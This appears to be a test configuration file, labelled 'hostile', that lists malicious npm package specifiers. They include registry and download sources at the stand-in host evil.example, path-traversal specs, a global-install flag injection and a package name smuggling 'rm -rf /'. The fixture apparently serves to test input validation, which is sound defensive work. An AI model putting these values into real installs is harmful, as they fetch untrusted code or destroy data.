terrarium {
  stack = "hostile"
}
environment "a" {
  config {
    type = "cloud"
    packages {
      npm = ["--registry=https://evil.example", "git+ssh://git@evil.example/x.git", "file:../../x", "http://evil.example/x.tgz", "@scope/../../x", "-g", "x@'; rm -rf /'"]
    }
    networking {
      type = "limited"
      allowed_hosts = []
      allow_package_managers = true
    }
  }
}
